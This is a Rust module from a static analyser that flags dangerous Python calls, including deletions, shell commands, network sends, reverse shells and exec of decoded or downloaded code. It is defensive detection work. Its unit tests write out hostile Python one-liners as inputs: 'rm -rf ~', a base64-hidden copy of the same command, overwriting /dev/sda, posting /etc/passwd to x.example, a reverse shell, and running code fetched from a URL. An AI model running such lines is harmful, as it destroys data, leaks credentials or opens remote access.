//! Python, read with Ruff's parser: imports and simple assignments are
//! tracked so that `import subprocess as s; s.Popen([...])`, `from shutil
//! import rmtree` and `p = Path.home()` resolve, and each call is matched
//! against the standard library's process, file and network APIs.

use std::collections::HashMap;

use ruff_python_ast::visitor::{self, Visitor};
use ruff_python_ast::{
    Comprehension, Expr, FStringPart, InterpolatedStringElement, Operator, Stmt,
};

use crate::{b64, glob, home, join_paths, Facts, Language, Sink, Val};

/// The facts of a Python program, or `None` when it does not parse.
pub(crate) fn analyse(code: &str, depth: u8) -> Option<Facts> {
    let parsed = ruff_python_parser::parse_module(code).ok()?;
    let mut w = Walker {
        env: HashMap::new(),
        sink: Sink::new(depth),
    };
    for stmt in &parsed.syntax().body {
        w.visit_stmt(stmt);
    }
    let mut facts = w.sink.finish();
    facts.parsed = true;
    Some(facts)
}

struct Walker {
    env: HashMap<String, Val>,
    sink: Sink,
}

/// What a call calls.
enum Callee {
    /// A function or class by qualified name (`subprocess.run`).
    Func(String),
    /// A method of a value (`Path('x').unlink`).
    Method(Val, String),
}

impl<'a> Visitor<'a> for Walker {
    fn visit_stmt(&mut self, stmt: &'a Stmt) {
        match stmt {
            Stmt::Import(s) => {
                for a in &s.names {
                    let name = a.name.as_str();
                    match &a.asname {
                        Some(alias) => {
                            self.env
                                .insert(alias.as_str().to_string(), Val::Name(name.to_string()));
                        }
                        None => {
                            let top = name.split('.').next().unwrap_or(name);
                            self.env.insert(top.to_string(), Val::Name(top.to_string()));
                        }
                    }
                }
            }
            Stmt::ImportFrom(s) => {
                let module = s.module.as_ref().map(|m| m.as_str()).unwrap_or("");
                for a in &s.names {
                    let name = a.name.as_str();
                    let bound = a.asname.as_ref().map_or(name, |n| n.as_str());
                    self.env
                        .insert(bound.to_string(), Val::Name(format!("{module}.{name}")));
                }
            }
            Stmt::Assign(s) => {
                let v = self.eval(&s.value);
                for t in &s.targets {
                    self.bind(t, v.clone());
                }
            }
            Stmt::AnnAssign(s) => {
                if let Some(value) = &s.value {
                    let v = self.eval(value);
                    self.bind(&s.target, v);
                }
            }
            Stmt::For(s) => {
                let v = element(&self.eval(&s.iter));
                self.bind(&s.target, v);
            }
            Stmt::With(s) => {
                for item in &s.items {
                    if let Some(t) = &item.optional_vars {
                        let v = self.eval(&item.context_expr);
                        self.bind(t, v);
                    }
                }
            }
            _ => {}
        }
        visitor::walk_stmt(self, stmt);
    }

    fn visit_comprehension(&mut self, c: &'a Comprehension) {
        let v = element(&self.eval(&c.iter));
        self.bind(&c.target, v);
        visitor::walk_comprehension(self, c);
    }

    fn visit_expr(&mut self, expr: &'a Expr) {
        match expr {
            // Generators bind their targets before the element is read.
            Expr::ListComp(e) => {
                self.comprehension(&e.generators);
                self.visit_expr(&e.elt);
                return;
            }
            Expr::SetComp(e) => {
                self.comprehension(&e.generators);
                self.visit_expr(&e.elt);
                return;
            }
            Expr::Generator(e) => {
                self.comprehension(&e.generators);
                self.visit_expr(&e.elt);
                return;
            }
            Expr::DictComp(e) => {
                self.comprehension(&e.generators);
                if let Some(k) = &e.key {
                    self.visit_expr(k);
                }
                self.visit_expr(&e.value);
                return;
            }
            Expr::Named(e) => {
                let v = self.eval(&e.value);
                self.bind(&e.target, v);
            }
            Expr::Call(call) => {
                let args: Vec<Val> = call.arguments.args.iter().map(|a| self.eval(a)).collect();
                let kw: Vec<(String, Val)> = call
                    .arguments
                    .keywords
                    .iter()
                    .filter_map(|k| {
                        Some((k.arg.as_ref()?.as_str().to_string(), self.eval(&k.value)))
                    })
                    .collect();
                match self.callee(&call.func) {
                    Some(Callee::Func(q)) => self.call_effects(&q, &args, &kw),
                    Some(Callee::Method(recv, m)) => self.method_effects(&recv, &m, &args, &kw),
                    None => {}
                }
            }
            _ => {}
        }
        visitor::walk_expr(self, expr);
    }
}

impl Walker {
    fn comprehension(&mut self, gens: &[Comprehension]) {
        for g in gens {
            self.visit_comprehension(g);
        }
    }

    fn bind(&mut self, target: &Expr, v: Val) {
        match target {
            Expr::Name(n) => {
                self.env.insert(n.id.as_str().to_string(), v);
            }
            Expr::Tuple(t) => {
                for e in &t.elts {
                    self.bind(e, v.clone());
                }
            }
            Expr::List(t) => {
                for e in &t.elts {
                    self.bind(e, v.clone());
                }
            }
            Expr::Starred(s) => self.bind(&s.value, v),
            _ => {}
        }
    }

    fn callee(&mut self, func: &Expr) -> Option<Callee> {
        if let Expr::Attribute(a) = func {
            let base = self.eval(&a.value);
            return Some(match base {
                Val::Name(q) => Callee::Func(format!("{q}.{}", a.attr.as_str())),
                other => Callee::Method(other, a.attr.as_str().to_string()),
            });
        }
        match self.eval(func) {
            Val::Name(q) => Some(Callee::Func(q)),
            _ => None,
        }
    }

    fn eval(&mut self, e: &Expr) -> Val {
        match e {
            Expr::StringLiteral(s) => Val::Str(s.value.to_str().to_string()),
            Expr::BytesLiteral(b) => {
                let bytes: Vec<u8> = b.value.bytes().collect();
                Val::Str(b64::text(&bytes))
            }
            Expr::FString(f) => {
                let mut out = String::new();
                for part in f.value.iter() {
                    match part {
                        FStringPart::Literal(l) => out.push_str(&l.value),
                        FStringPart::FString(fs) => {
                            for el in fs.elements.iter() {
                                match el {
                                    InterpolatedStringElement::Literal(l) => out.push_str(&l.value),
                                    InterpolatedStringElement::Interpolation(i) => {
                                        match self.eval(&i.expression) {
                                            Val::Str(s) | Val::Decoded(s) => out.push_str(&s),
                                            _ => return Val::Unknown,
                                        }
                                    }
                                }
                            }
                        }
                    }
                }
                Val::Str(out)
            }
            Expr::BinOp(b) => {
                let l = self.eval(&b.left);
                let r = self.eval(&b.right);
                match b.op {
                    Operator::Add => l.concat(&r),
                    Operator::Div => join_paths(&[l, r]),
                    _ => Val::Unknown,
                }
            }
            Expr::BooleanLiteral(b) => Val::Bool(b.value),
            Expr::Name(n) => {
                let id = n.id.as_str();
                self.env
                    .get(id)
                    .cloned()
                    .unwrap_or_else(|| Val::Name(id.to_string()))
            }
            Expr::Attribute(a) => match self.eval(&a.value) {
                Val::Name(q) => {
                    let q = format!("{q}.{}", a.attr.as_str());
                    if q == "os.environ" {
                        self.sink.facts.reads_env = true;
                    }
                    Val::Name(q)
                }
                Val::Downloaded => Val::Downloaded,
                _ => Val::Unknown,
            },
            Expr::Subscript(s) => {
                let base = self.eval(&s.value);
                let key = self.eval(&s.slice);
                match (&base, key.str()) {
                    (Val::Name(q), Some("HOME")) if q == "os.environ" => home(),
                    (Val::Downloaded, _) => Val::Downloaded,
                    _ => Val::Unknown,
                }
            }
            Expr::Call(call) => {
                let args: Vec<Val> = call.arguments.args.iter().map(|a| self.eval(a)).collect();
                let kw: Vec<(String, Val)> = call
                    .arguments
                    .keywords
                    .iter()
                    .filter_map(|k| {
                        Some((k.arg.as_ref()?.as_str().to_string(), self.eval(&k.value)))
                    })
                    .collect();
                match self.callee(&call.func) {
                    Some(Callee::Func(q)) => call_value(&q, &args, &kw),
                    Some(Callee::Method(recv, m)) => method_value(&recv, &m, &args),
                    None => Val::Unknown,
                }
            }
            Expr::List(l) => Val::List(l.elts.iter().map(|e| self.eval(e)).collect()),
            Expr::Tuple(l) => Val::List(l.elts.iter().map(|e| self.eval(e)).collect()),
            Expr::Dict(d) => {
                let mut fields = Vec::new();
                for item in &d.items {
                    if let Some(k) = &item.key {
                        if let Val::Str(k) = self.eval(k) {
                            let v = self.eval(&item.value);
                            fields.push((k, v));
                        }
                    }
                }
                Val::Obj(fields)
            }
            Expr::Starred(s) => self.eval(&s.value),
            Expr::Await(a) => self.eval(&a.value),
            _ => Val::Unknown,
        }
    }

    fn call_effects(&mut self, q: &str, args: &[Val], kw: &[(String, Val)]) {
        let q = q.strip_prefix("builtins.").unwrap_or(q);
        let arg = |i: usize, name: &str| -> Val {
            args.get(i)
                .or_else(|| kw.iter().find(|(k, _)| k == name).map(|(_, v)| v))
                .cloned()
                .unwrap_or(Val::Unknown)
        };
        let s = &mut self.sink;
        match q {
            "os.system"
            | "os.popen"
            | "os.popen2"
            | "os.popen3"
            | "subprocess.getoutput"
            | "subprocess.getstatusoutput"
            | "commands.getoutput"
            | "commands.getstatusoutput"
            | "platform.popen"
            | "asyncio.create_subprocess_shell" => s.shell(&arg(0, "cmd")),
            "subprocess.run"
            | "subprocess.call"
            | "subprocess.Popen"
            | "subprocess.check_output"
            | "subprocess.check_call" => match arg(0, "args") {
                Val::List(words) => s.argv(&words),
                other => s.shell(&other),
            },
            "asyncio.create_subprocess_exec" => s.argv(args),
            "pty.spawn" => match arg(0, "argv") {
                Val::List(words) => s.argv(&words),
                other => s.argv(&[other]),
            },
            "os.execv" | "os.execve" | "os.execvp" | "os.execvpe" => {
                s.argv(&exec_argv(arg(0, "path"), arg(1, "args").items()));
            }
            "os.execl" | "os.execle" | "os.execlp" | "os.execlpe" => {
                let mut rest: Vec<Val> = args.iter().skip(1).cloned().collect();
                if q.ends_with('e') {
                    rest.pop();
                }
                s.argv(&exec_argv(arg(0, "path"), rest));
            }
            "os.spawnv" | "os.spawnve" | "os.spawnvp" | "os.spawnvpe" => {
                s.argv(&exec_argv(arg(1, "file"), arg(2, "args").items()));
            }
            "os.spawnl" | "os.spawnle" | "os.spawnlp" | "os.spawnlpe" => {
                let rest: Vec<Val> = args.iter().skip(2).cloned().collect();
                s.argv(&exec_argv(arg(1, "file"), rest));
            }
            "os.posix_spawn" | "os.posix_spawnp" => {
                s.argv(&exec_argv(arg(0, "path"), arg(1, "argv").items()));
            }
            "shutil.rmtree" => s.delete(&arg(0, "path"), true),
            "os.remove" | "os.unlink" | "os.rmdir" | "os.removedirs" => {
                s.delete(&arg(0, "path"), false)
            }
            "shutil.move" | "os.rename" | "os.replace" | "os.renames" => {
                s.delete(&arg(0, "src"), false);
                s.write(&arg(1, "dst"), false);
            }
            "shutil.copy" | "shutil.copy2" | "shutil.copyfile" | "shutil.copytree" => {
                s.read(&arg(0, "src"));
                s.write(&arg(1, "dst"), false);
            }
            "os.symlink" | "os.link" => s.write(&arg(1, "dst"), false),
            "os.truncate" => s.write(&arg(0, "path"), false),
            "open" | "io.open" | "codecs.open" | "io.FileIO" => {
                open_mode(s, &arg(0, "file"), &arg(1, "mode"));
            }
            "os.getenv" | "os.environ.get" | "os.getenvb" => s.facts.reads_env = true,
            "os.dup2" => s.dup = true,
            "socket.socket" | "socket.create_connection" | "socket.socketpair" => {
                s.socket = true;
                s.facts.network = true;
            }
            "urllib.request.urlopen"
            | "urllib.urlopen"
            | "urllib2.urlopen"
            | "urllib.request.Request"
            | "urllib2.Request" => {
                s.url(&arg(0, "url"));
                if args.len() > 1 || kw.iter().any(|(k, _)| k == "data") {
                    s.facts.network_send = true;
                }
            }
            "urllib.request.urlretrieve" => {
                s.url(&arg(0, "url"));
                s.write(&arg(1, "filename"), false);
            }
            "smtplib.SMTP"
            | "smtplib.SMTP_SSL"
            | "ftplib.FTP"
            | "ftplib.FTP_TLS"
            | "telnetlib.Telnet"
            | "paramiko.SSHClient"
            | "http.client.HTTPConnection"
            | "http.client.HTTPSConnection" => {
                s.url(&arg(0, "host"));
            }
            "exec" | "eval" => s.eval(Language::Python, &arg(0, "source")),
            _ => {
                if let Some(verb) = q
                    .strip_prefix("requests.")
                    .or_else(|| q.strip_prefix("httpx."))
                    .or_else(|| q.strip_prefix("aiohttp."))
                {
                    s.url(&arg(0, "url"));
                    let sends = matches!(verb, "post" | "put" | "patch" | "request")
                        || kw
                            .iter()
                            .any(|(k, _)| matches!(k.as_str(), "data" | "files" | "json"));
                    s.facts.network_send |= sends;
                }
            }
        }
    }

    fn method_effects(&mut self, recv: &Val, m: &str, args: &[Val], kw: &[(String, Val)]) {
        let s = &mut self.sink;
        if matches!(recv, Val::Unknown) {
            match m {
                "send" | "sendall" | "sendto" | "sendmail" | "storbinary" | "storlines"
                    if s.socket || s.facts.network =>
                {
                    s.facts.network_send = true;
                }
                "connect" if s.socket => s.facts.network = true,
                _ => {}
            }
            return;
        }
        match m {
            "unlink" | "rmdir" => s.delete(recv, false),
            "write_text" | "write_bytes" | "touch" | "symlink_to" | "hardlink_to" => {
                s.write(recv, false)
            }
            "read_text" | "read_bytes" => s.read(recv),
            "open" => {
                let mode = args
                    .first()
                    .cloned()
                    .or_else(|| kw.iter().find(|(k, _)| k == "mode").map(|(_, v)| v.clone()))
                    .unwrap_or(Val::Unknown);
                open_mode(s, recv, &mode);
            }
            "rename" | "replace" => {
                s.delete(recv, false);
                if let Some(t) = args.first() {
                    s.write(t, false);
                }
            }
            _ => {}
        }
    }
}

/// The program run by an `exec*` call: the file, then `argv[1:]`.
fn exec_argv(file: Val, argv: Vec<Val>) -> Vec<Val> {
    let mut out = vec![file];
    out.extend(argv.into_iter().skip(1));
    out
}

/// `open(path, mode)`: a write, an append or a read.
fn open_mode(s: &mut Sink, path: &Val, mode: &Val) {
    let mode = match mode {
        Val::Str(m) => m.as_str(),
        Val::Unknown | Val::Name(_) => "r",
        _ => "r",
    };
    if mode.contains('a') {
        s.write(path, true);
    } else if mode.contains(['w', 'x', '+']) {
        s.write(path, false);
    } else {
        s.read(path);
    }
}

/// What iterating a value yields.
fn element(v: &Val) -> Val {
    match v {
        Val::Under(d) => Val::Under(d.clone()),
        Val::Downloaded => Val::Downloaded,
        _ => Val::Unknown,
    }
}

/// The value a call returns, when it is a path, a module or decoded text.
fn call_value(q: &str, args: &[Val], kw: &[(String, Val)]) -> Val {
    let q = q.strip_prefix("builtins.").unwrap_or(q);
    let first = args.first().cloned().unwrap_or(Val::Unknown);
    match q {
        "os.path.expanduser" | "os.path.abspath" | "os.path.realpath" | "os.path.normpath"
        | "os.fspath" | "str" | "compile" | "pathlib.PurePath" | "pathlib.PosixPath" => first,
        "pathlib.Path" if args.is_empty() => Val::Str(".".into()),
        "pathlib.Path" => join_paths(args),
        "os.path.expandvars" => match first {
            Val::Str(s) => Val::Str(s.replace("${HOME}", "~").replace("$HOME", "~")),
            other => other,
        },
        "pathlib.Path.home" => home(),
        "pathlib.Path.cwd" | "os.getcwd" => Val::Str(".".into()),
        "os.path.join" | "posixpath.join" => join_paths(args),
        "os.getenv" | "os.environ.get" if first.str() == Some("HOME") => home(),
        "glob.glob" | "glob.iglob" => glob(&first),
        "os.walk" | "os.scandir" | "os.listdir" | "os.fwalk" => match first {
            Val::Str(d) => Val::Under(d),
            Val::Unknown if args.is_empty() => Val::Under(".".into()),
            _ => Val::Unknown,
        },
        "base64.b64decode"
        | "base64.standard_b64decode"
        | "base64.urlsafe_b64decode"
        | "base64.decodebytes"
        | "base64.decodestring"
        | "binascii.a2b_base64" => decoded(first.str().and_then(b64::decode)),
        "codecs.decode" => {
            let enc = args
                .get(1)
                .or_else(|| kw.iter().find(|(k, _)| k == "encoding").map(|(_, v)| v))
                .and_then(Val::str);
            match enc {
                Some("base64") => decoded(first.str().and_then(b64::decode)),
                Some("hex") => decoded(first.str().and_then(b64::decode_hex)),
                _ => Val::Decoded(String::new()),
            }
        }
        "bytes.fromhex" | "binascii.unhexlify" | "binascii.a2b_hex" => {
            decoded(first.str().and_then(b64::decode_hex))
        }
        "zlib.decompress" | "gzip.decompress" | "bz2.decompress" | "lzma.decompress"
        | "marshal.loads" | "pickle.loads" => Val::Decoded(String::new()),
        "__import__" | "importlib.import_module" => match first.str() {
            Some(m) => Val::Name(m.to_string()),
            None => Val::Unknown,
        },
        "getattr" => match (first, args.get(1).and_then(Val::str)) {
            (Val::Name(m), Some(a)) => Val::Name(format!("{m}.{a}")),
            _ => Val::Unknown,
        },
        "urllib.request.urlopen"
        | "urllib.urlopen"
        | "urllib2.urlopen"
        | "requests.get"
        | "httpx.get" => Val::Downloaded,
        _ => Val::Unknown,
    }
}

fn decoded(bytes: Option<Vec<u8>>) -> Val {
    Val::Decoded(bytes.map(|b| b64::text(&b)).unwrap_or_default())
}

/// The value of a method call on a known value.
fn method_value(recv: &Val, m: &str, args: &[Val]) -> Val {
    match (recv, m) {
        (Val::Downloaded, _) => Val::Downloaded,
        (
            Val::Str(_) | Val::Decoded(_) | Val::Under(_),
            "decode" | "encode" | "strip" | "expanduser" | "resolve" | "absolute",
        ) => recv.clone(),
        (Val::Str(_) | Val::Under(_), "rglob" | "glob" | "iterdir" | "walk") => match recv {
            Val::Str(d) | Val::Under(d) => Val::Under(d.clone()),
            _ => Val::Unknown,
        },
        (Val::Str(_), "joinpath") => {
            let mut parts = vec![recv.clone()];
            parts.extend(args.iter().cloned());
            join_paths(&parts)
        }
        (Val::Name(q), _) => call_value(&format!("{q}.{m}"), args, &[]),
        _ => Val::Unknown,
    }
}

#[cfg(test)]
mod tests {
    use crate::{analyse, Delete, Language, Write};

    fn py(code: &str) -> crate::Facts {
        let f = analyse(Language::Python, code);
        assert!(f.parsed, "did not parse: {code}");
        f
    }

    fn del(path: &str, recursive: bool) -> Delete {
        Delete {
            path: path.into(),
            recursive,
        }
    }

    #[test]
    fn deletes() {
        assert_eq!(
            py("import shutil; shutil.rmtree('/home/u')").deletes,
            [del("/home/u", true)]
        );
        assert_eq!(
            py("import shutil,os; shutil.rmtree(os.path.expanduser('~'))").deletes,
            [del("~", true)]
        );
        assert_eq!(
            py("from shutil import rmtree as r; r(f'{__import__(\"os\").environ[\"HOME\"]}/x')")
                .deletes,
            [del("~/x", true)]
        );
        assert_eq!(
            py("import os; [os.remove(os.path.join(r,f)) for r,_,fs in os.walk('/home/u') for f in fs]")
                .deletes,
            [del("/home/u", true)]
        );
        assert_eq!(
            py("import pathlib; [p.unlink() for p in pathlib.Path.home().rglob('*') if p.is_file()]")
                .deletes,
            [del("~", true)]
        );
        assert_eq!(
            py("import os\nfor f in __import__('glob').glob('/etc/*'):\n    os.remove(f)").deletes,
            [del("/etc", true)]
        );
    }

    #[test]
    fn commands() {
        assert_eq!(
            py("import subprocess as s; s.Popen(['/bin/rm','-rf','/etc'])").commands,
            ["/bin/rm -rf /etc"]
        );
        assert_eq!(
            py("import os; os.execvp('rm', ['rm','-rf','/home/u'])").commands,
            ["rm -rf /home/u"]
        );
        assert_eq!(
            py("import os; cmd = 'rm ' + '-rf ~'; os.system(cmd)").commands,
            ["rm -rf ~"]
        );
        let f = py(
            "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oInJtIC1yZiB+Iik='))",
        );
        assert!(f.evals_decoded);
        assert_eq!(f.commands, ["rm -rf ~"]);
        assert_eq!(
            py("import subprocess; subprocess.run(['echo', 'a b'])").commands,
            ["echo 'a b'"]
        );
    }

    #[test]
    fn writes_and_network() {
        assert_eq!(
            py("open('/dev/sda','wb').write(b'\\0'*1048576)").writes,
            [Write {
                path: "/dev/sda".into(),
                append: false
            }]
        );
        assert_eq!(
            py("import os; open(os.path.expanduser('~/.bashrc'),'a').write('x')").writes,
            [Write {
                path: "~/.bashrc".into(),
                append: true
            }]
        );
        let f = py(
            "import requests; requests.post('https://x.example', data=open('/etc/passwd').read())",
        );
        assert!(f.network && f.network_send);
        assert_eq!(f.reads, ["/etc/passwd"]);
        let f = py("import socket,os,pty;s=socket.socket();s.connect(('h',1));[os.dup2(s.fileno(),i) for i in (0,1,2)];pty.spawn('/bin/sh')");
        assert!(f.socket_shell);
        let f = py("import urllib.request as u; exec(u.urlopen('https://x.example/a.py').read())");
        assert!(f.evals_downloaded);
    }

    #[test]
    fn benign() {
        let f = py("import shutil; shutil.rmtree('build')");
        assert_eq!(f.deletes, [del("build", true)]);
        assert!(py("import os; print(os.path.expanduser('~'))").is_empty());
        assert_eq!(
            py("import subprocess; subprocess.run(['ls'])").commands,
            ["ls"]
        );
        assert!(py("import json,sys; print(json.load(sys.stdin)['x'])").is_empty());
        assert!(py("def f(p):\n    import os\n    os.remove(p)\n").is_empty());
        assert_eq!(py("print(open('setup.cfg').read())").reads, ["setup.cfg"]);
    }
}
